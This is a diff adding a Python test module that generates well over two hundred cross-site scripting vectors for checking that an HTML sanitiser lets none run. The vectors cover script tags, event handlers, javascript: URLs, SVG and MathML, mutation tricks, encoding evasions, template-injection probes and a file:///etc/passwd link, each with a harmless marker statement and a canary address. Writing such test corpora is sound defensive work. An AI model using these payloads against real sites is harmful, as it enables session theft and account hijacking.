@@ -1,0 +1,335 @@
+r"""Scripts that must not run: what a feed, an editor or a reader could bring, by classes. All written for this proof.
+
+`{js}` stands for a statement that the browser's watcher sees; `{at}` for the address of the canary.
+"""
+
+import base64
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+
+STATEMENTS = ("alert(1)", "owned=1", "confirm(1)", "prompt(1)", "owned=document.title")
+"""Each vector has one of them in turn: a dialog, or a property of the window that was not there. None has a quote."""
+
+
+@dataclass(frozen=True, slots=True)
+class Vector:
+    """One attack, by its class and its number in it."""
+
+    kind: str
+    number: int
+    text: str
+
+    @property
+    def name(self) -> str:
+        """Return what it is called in a finding."""
+        return f"{self.kind} {self.number}"
+
+
+def _encoded(text: str, encoding: str) -> str:
+    """Return bytes of another encoding as a text that has one character for each."""
+    return text.encode(encoding).decode("latin-1")
+
+
+def _references(text: str, form: str) -> str:
+    return "".join(form.format(ord(char)) for char in text)
+
+
+_PLAIN = "<script>{js}</script>"
+_IMAGE = "<img src=x onerror={js}>"
+_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.owned=1'/>").decode()
+
+CLASSES: Mapping[str, tuple[str, ...]] = {
+    "script elements": (
+        _PLAIN,
+        "<SCRIPT>{js}</SCRIPT>",
+        "<ScRiPt >{js}</sCrIpT >",
+        "<script\n>{js}</script\n>",
+        "<script\t type=text/javascript>{js}</script>",
+        "<script/x>{js}</script>",
+        "<script type=module>{js}</script>",
+        "<script src='{at}/script.js'></script>",
+        "<script src={at}/script.js async defer>",
+        "<scr<script>ipt>{js}</scr</script>ipt>",
+        "<<script>{js}//<</script>",
+        "<script>{js}",
+        "</p><script>{js}</script><p>",
+        "<!-- --><script>{js}</script><!-- -->",
+        "<script><!--\n{js}\n--></script>",
+        "<script>/*</script><script>*/{js}</script>",
+        "<script type='text/plain' type='text/javascript'>0</script><script nomodule=false>{js}</script>",
+        "<script x='</script>'>{js}</script>",
+        "<script\x0c>{js}</script\x0c>",
+        "<script >{js}</script foo='bar'>",
+    ),
+    "event handlers": (
+        _IMAGE,
+        "<img src=x onerror='{js}'>",
+        '<img src="x" onerror="{js}" alt="a picture">',
+        "<IMG SRC=x ONERROR={js}>",
+        "<img/src=x/onerror={js}>",
+        "<img src=x\nonerror\n=\n{js}>",
+        "<img src=x one\x00rror={js}>",
+        "<body onload={js}>",
+        "<body onpageshow={js}><p>words</p>",
+        "<p onmouseover={js}>words</p>",
+        "<a href='#' onclick={js}>words</a>",
+        "<a href=https://news.example.org/ onfocus={js} autofocus tabindex=1>words</a>",
+        "<input autofocus onfocus={js}>",
+        "<select autofocus onfocus={js}><option>one</select>",
+        "<textarea autofocus onfocus={js}></textarea>",
+        "<details open ontoggle={js}><summary>more</summary></details>",
+        "<video><source onerror={js}></video>",
+        "<video src=x onerror={js}></video>",
+        "<audio src=x onerror={js}></audio>",
+        "<marquee onstart={js}>words</marquee>",
+        "<blockquote onpointerenter={js}>words</blockquote>",
+        "<p style='animation:x 1s' onanimationstart={js}>words</p><style>@keyframes x{from{color:red}}</style>",
+        "<li onauxclick={js} oncontextmenu={js}>words</li>",
+        "<em onwheel={js} onkeydown={js} contenteditable>words</em>",
+        "<p onbeforeinput={js} contenteditable autofocus onfocus={js}>words</p>",
+        "<button popovertarget=x>open</button><div popover id=x onbeforetoggle={js}>words</div>",
+        "<p accesskey=x onclick={js}>words</p>",
+        "<strong onscrollend={js} onfocusin={js} tabindex=0 autofocus>words</strong>",
+    ),
+    "addresses": (
+        "<a href='javascript:{js}'>words</a>",
+        "<a href=JaVaScRiPt:{js}>words</a>",
+        "<a href=' javascript:{js}'>words</a>",
+        "<a href='\x01javascript:{js}'>words</a>",
+        "<a href='java\tscript:{js}'>words</a>",
+        "<a href='java\nscript:{js}'>words</a>",
+        "<a href='java&#10;script:{js}'>words</a>",
+        "<a href='java&Tab;script&colon;{js}'>words</a>",
+        "<a href='&#106;avascript:{js}'>words</a>",
+        "<a href='&#x6A&#x61&#x76&#x61script:{js}'>words</a>",
+        "<a href='&#0000106avascript:{js}'>words</a>",
+        "<a href='javascript&#58;{js}'>words</a>",
+        "<a href='javascript:{js}//https://news.example.org/'>words</a>",
+        "<a href='javascript://news.example.org/%0A{js}'>words</a>",
+        "<a href='data:text/html,<script>{js}</script>'>words</a>",
+        "<a href='data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+'>words</a>",
+        "<a href='vbscript:msgbox(1)'>words</a>",
+        "<a href='feed:javascript:{js}'>words</a>",
+        "<a href='view-source:javascript:{js}'>words</a>",
+        "<a href='blob:null/javascript:{js}'>words</a>",
+        "<a href='https://news.example.org/\" onmouseover=\"{js}'>words</a>",
+        "<a href='filesystem:https://news.example.org/x'>words</a><a href='file:///etc/passwd'>words</a>",
+        "<a href='ja\u00advascript:{js}'>words</a><a href='\ufeffjavascript:{js}'>words</a>",
+        "<a href='\u2028javascript:{js}'>words</a><a href='\u3000javascript:{js}'>words</a>",
+    ),
+    "SVG and MathML": (
+        "<svg onload={js}>",
+        "<svg/onload={js}>",
+        "<svg><script>{js}</script></svg>",
+        "<svg><script href='{at}/script.js'/></svg>",
+        "<svg><script>&#97;lert(1)</script></svg>",
+        "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
+        "<svg><set attributeName=onmouseover to={js} onbegin={js}></svg>",
+        "<svg><a xlink:href='javascript:{js}'><text x=20 y=20>words</text></a></svg>",
+        "<svg><a><animate attributeName=href values='javascript:{js}'/><text y=20>words</text></a></svg>",
+        "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
+        "<svg><use href='data:image/svg+xml;base64," + _SVG + "#x'/></svg>",
+        "<svg><image href=x onerror={js}></svg>",
+        "<svg><style><img src=x onerror={js}></style></svg>",
+        "<svg><title><img src=x onerror={js}></title></svg>",
+        "<svg><desc><script>{js}</script></desc></svg>",
+        "<math><a href='javascript:{js}'>words</a></math>",
+        "<math href='javascript:{js}'>words</math>",
+        "<math><mi xlink:href='data:x,<script>{js}</script>'>words</mi></math>",
+        "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
+        "<math><mtext><script>{js}</script></mtext></math>",
+        "<math><maction actiontype='statusline' xlink:href='javascript:{js}'>words</maction></math>",
+    ),
+    "mutations": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
+        "<svg></p><style><a title='</style><img src=x onerror={js}>'>",
+        "<math><mtext></form><form><mglyph><svg><style></math><img src=x onerror={js}>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}></style>",
+        "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
+        "<noembed><p title='</noembed><img src=x onerror={js}>'></noembed>",
+        "<noframes><p title='</noframes><img src=x onerror={js}>'></noframes>",
+        "<template><script>{js}</script></template>",
+        "<template shadowrootmode=open><img src=x onerror={js}></template>",
+        "<select><style></select><img src=x onerror={js}></style></select>",
+        "<select><template><img src=x onerror={js}></template></select>",
+        "<select><noscript></select><script>{js}</script></noscript>",
+        "<table><td><script>{js}</script></table>",
+        "<table><img src=x onerror={js}><tr><td>words</table>",
+        "<table><caption><svg><td><style><img title='</style><img src=x onerror={js}>'>",
+        "<table background='javascript:{js}'><tr><td>words</td></tr></table>",
+        "<p><table><p><a href='javascript:{js}'>words</table>",
+        "<textarea></p><img title='</textarea><img src=x onerror={js}>'>",
+        "<title><p title='</title><img src=x onerror={js}>'></title>",
+        "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
+        "<iframe><p title='</iframe><img src=x onerror={js}>'></iframe>",
+        "<style><p title='</style><img src=x onerror={js}>'></style>",
+        "<plaintext></p><img src=x onerror={js}>",
+        "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
+        "<![CDATA[<script>{js}</script>]]>",
+        "<!--><script>{js}</script>-->",
+        "<!---><img src=x onerror={js}>-->",
+        "<!-- --!><img src=x onerror={js}> -->",
+        "<!-- ` --!><script>{js}</script>-->",
+        "<?xml version='1.0'?><?x ?><img src=x onerror={js}>?>",
+        "<!doctype x [<!entity y '<img src=x onerror={js}>'>]>&y;",
+        "<a href='https://x.test/`<img/src=x onerror={js}>`'>words</a>",
+        "<p title='`'>`<img title=`><img src=x onerror={js}>`></p>",
+        '<p title="&quot;><img src=x onerror={js}>">words</p>',
+        "<a title='--><img src=x onerror={js}>'><!-- </a>",
+        "<form><input name=innerHTML><form><img src=x onerror={js}></form></form>",
+        "<b><p></b><img src=x onerror={js}><i></p></i>",
+        "<a><p><a><table><a href='javascript:{js}'>words",
+        "<ruby><rt><script>{js}</script><rp><img src=x onerror={js}></ruby>",
+        "<frameset onload={js}><frame src='javascript:{js}'></frameset>",
+        "<svg><p><style><!--</style><a id='--><img src=x onerror={js}>'>",
+        "<math><annotation-xml><p><style><a title='</style></p></annotation-xml><img src=x onerror={js}>'>",
+        "<em><strong><em><h2><h3><p><img src=x onerror={js}></h2></em></p>",
+        "&lt;img src=x onerror={js}&gt;",
+        "&amp;lt;img src=x onerror={js}&amp;gt;",
+        "&lt;script&gt;{js}&lt;/script&gt;",
+    ),
+    "styles": (
+        "<p style='background:url(javascript:{js})'>words</p>",
+        "<p style='width:expression({js})'>words</p>",
+        "<p style=\"background-image:url('{at}/css.png')\">words</p>",
+        "<style>body{background:url({at}/css.png)}</style>",
+        "<style>@import '{at}/style.css';</style>",
+        "<style>p::before{content:url({at}/css.png)}</style>",
+        "<p style='position:fixed;inset:0;z-index:9999'><a href='https://x.test/'>words</a></p>",
+        "<style onload={js}></style>",
+        "<link rel=stylesheet href='{at}/style.css'>",
+        "<link rel=stylesheet href='data:text/css,*{color:red}' onload={js}>",
+        "<p style='-moz-binding:url({at}/x.xml#x)'>words</p>",
+        "<p style='behavior:url({at}/x.htc)'>words</p>",
+    ),
+    "documents in documents": (
+        "<base href='{at}/'>",
+        "<base href='javascript:{js}//'><a href='x'>words</a>",
+        "<meta http-equiv=refresh content='0;url={at}/refresh'>",
+        "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
+        "<meta http-equiv=refresh content='0;url=data:text/html,<script>{js}</script>'>",
+        "<meta http-equiv=Content-Security-Policy content=''><meta name=referrer content=unsafe-url>",
+        "<link rel=prefetch href='{at}/prefetch'><link rel=preconnect href='{at}'>",
+        "<link rel=modulepreload href='{at}/script.js'>",
+        "<iframe src='javascript:parent.{js}'></iframe>",
+        "<iframe src='{at}/frame'></iframe>",
+        "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
+        "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
+        "<iframe src='data:text/html,<script>parent.{js}</script>'></iframe>",
+        "<object data='javascript:{js}'></object>",
+        "<object data='{at}/object' type='text/html'></object>",
+        "<object data='data:text/html,<script>parent.{js}</script>'></object>",
+        "<embed src='javascript:{js}'>",
+        "<embed src='{at}/embed' type='text/html'>",
+        "<form action='{at}/form'><button autofocus>words</button></form>",
+        "<form action='javascript:{js}'><input type=submit></form>",
+        "<button formaction='javascript:{js}'>words</button>",
+        "<input type=image src=x formaction='javascript:{js}' onerror={js}>",
+        "<isindex type=image src=x onerror={js}>",
+        "<portal src='{at}/portal'></portal><fencedframe src='{at}/frame'></fencedframe>",
+        "<applet code=x archive='{at}/x.jar'></applet>",
+        "<a href='https://news.example.org/' ping='{at}/ping' target=_blank>words</a>",
+        "<map name=m><area href='javascript:{js}' shape=default></map><img usemap='#m' src=x>",
+        "<dialog open><form method=dialog action='javascript:{js}'><button>words</button></form></dialog>",
+    ),
+    "names that clobber": (
+        "<a id=owned></a><a id=owned name=x></a>",
+        "<form id=document><input name=title></form>",
+        "<img name=getElementById src=x>",
+        "<form name=body><input id=firstChild></form>",
+        "<a id=main href='https://x.test/'>words</a><p id=see-also>words</p>",
+        "<iframe name=owned srcdoc=''></iframe>",
+        "<p id=__proto__ name=constructor class=notice role=alert>words</p>",
+        "<input id=attributes name=attributes><p name=currentScript>words</p>",
+    ),
+    "encodings": (
+        "+ADw-script+AD4-{js}+ADw-/script+AD4-",
+        "<meta charset=utf-7>+ADw-img src=x onerror={js}+AD4-",
+        _encoded("\u00bc", "latin-1") + "script\u00be{js}\u00bc/script\u00be",
+        "\u00c0\u00bcscript\u00c0\u00be{js}\u00c0\u00bc/script\u00c0\u00be",
+        "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
+        "\ufe64img src=x onerror={js}\ufe65",
+        "<scr\x00ipt>{js}</scr\x00ipt>",
+        "<\x00script>{js}</script>",
+        "<img src=x onerror\x00={js}>",
+        "\u202e<script>{js}</script>\u202c",
+        "<\u202eimg src=x onerror={js}>",
+        "<img\u00a0src=x\u00a0onerror={js}>",
+        "<img\u3000src=x onerror={js}>",
+        "<\u0130mg src=x onerror={js}><\u017fcript>{js}</\u017fcript>",
+        "<script>\u2028{js}\u2029</script>",
+        _references("<script>", "&#{};") + "{js}" + _references("</script>", "&#x{:x};"),
+        "%3Cscript%3E{js}%3C/script%3E",
+        "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
+        "<img src=x onerror=\ufeff{js}>",
+        "\ue000<script>{js}</script>\ue001",
+    ),
+    "breaking out of data": (
+        "</script><script>{js}</script>",
+        "</ScRiPt ><img src=x onerror={js}>",
+        '"}</script><script>{js}</script>',
+        "<!--<script>{js}</script>",
+        "<!--<script></script><script>{js}</script>-->",
+        '\\"};{js};//',
+        "\u2028{js}\u2029//",
+        "</title><script>{js}</script>",
+        "</textarea><img src=x onerror={js}>",
+        "</style><img src=x onerror={js}>",
+        '" onmouseover="{js}',
+        "' onmouseover='{js}",
+        '"><img src=x onerror={js}>',
+        "'><svg onload={js}>",
+        "--><img src=x onerror={js}><!--",
+        "]]><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script><![CDATA[",
+        "</item></channel><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
+        '" autofocus onfocus={js} x="',
+        "` onmouseover={js} `",
+        '\\\u0000\\"</script><svg/onload={js}>',
+    ),
+    "words of templates": (
+        "{{ '<script>' }}{js}{{ '</script>' }}",
+        "{{ config }}{{ self.__init__.__globals__ }}",
+        "{% raw %}<script>{js}</script>{% endraw %}",
+        "{{ ''.__class__.__mro__ }}<img src=x onerror={js}>",
+        "%(name)s<img src=x onerror={js}>%s",
+        "${{{js}}}#{{{js}}}<%= {js} %>",
+        "{% trans %}<script>{js}</script>{% endtrans %}",
+        "{0.__class__}<svg onload={js}>",
+    ),
+    "pictures and media": (
+        "<img srcset='x 1x, javascript:{js} 2x' onerror={js}>",
+        "<picture><source srcset='javascript:{js}'><img src=x onerror={js}></picture>",
+        "<img src='javascript:{js}'>",
+        "<img src='data:image/svg+xml;base64," + _SVG + "'>",
+        "<img src='https://x.test/a.png\" onerror=\"{js}'>",
+        "<img lowsrc='javascript:{js}' dynsrc='javascript:{js}' src=x onerror={js}>",
+        "<figure><img src=x alt='\"><script>{js}</script>'><figcaption><script>{js}</script></figcaption></figure>",
+        "<video poster='javascript:{js}' src='javascript:{js}' onloadstart={js}></video>",
+        "<track kind=captions src='javascript:{js}'><bgsound src='javascript:{js}'>",
+        "<image src=x onerror={js}>",
+        "<img src=x alt=``onerror={js}``>",
+    ),
+    "plain writing": (
+        "[words](javascript:{js})",
+        '![words](x"onerror="{js})',
+        "[words](data:text/html,<script>{js}</script>)",
+        "<javascript:{js}>",
+        "[x]: javascript:{js}\n\n[x]",
+        "```\n</code></pre><img src=x onerror={js}>\n```",
+        "https://x.test/?<script>{js}</script>",
+        'https://x.test/"onmouseover="{js}',
+        'words@x.test"><img src=x onerror={js}>',
+        "*words*<img src=x onerror={js}>*words*",
+    ),
+}
+"""The attacks. What is of no harm as text, such as Markdown, must be of none on a page either."""
+
+
+def every(at: str) -> Iterator[Vector]:
+    """Yield all vectors; `at` is where the canary listens."""
+    counted = 0
+    for kind, texts in CLASSES.items():
+        for number, text in enumerate(texts, 1):
+            statement = STATEMENTS[counted % len(STATEMENTS)]
+            counted += 1
+            yield Vector(kind, number, text.replace("{js}", statement).replace("{at}", at))
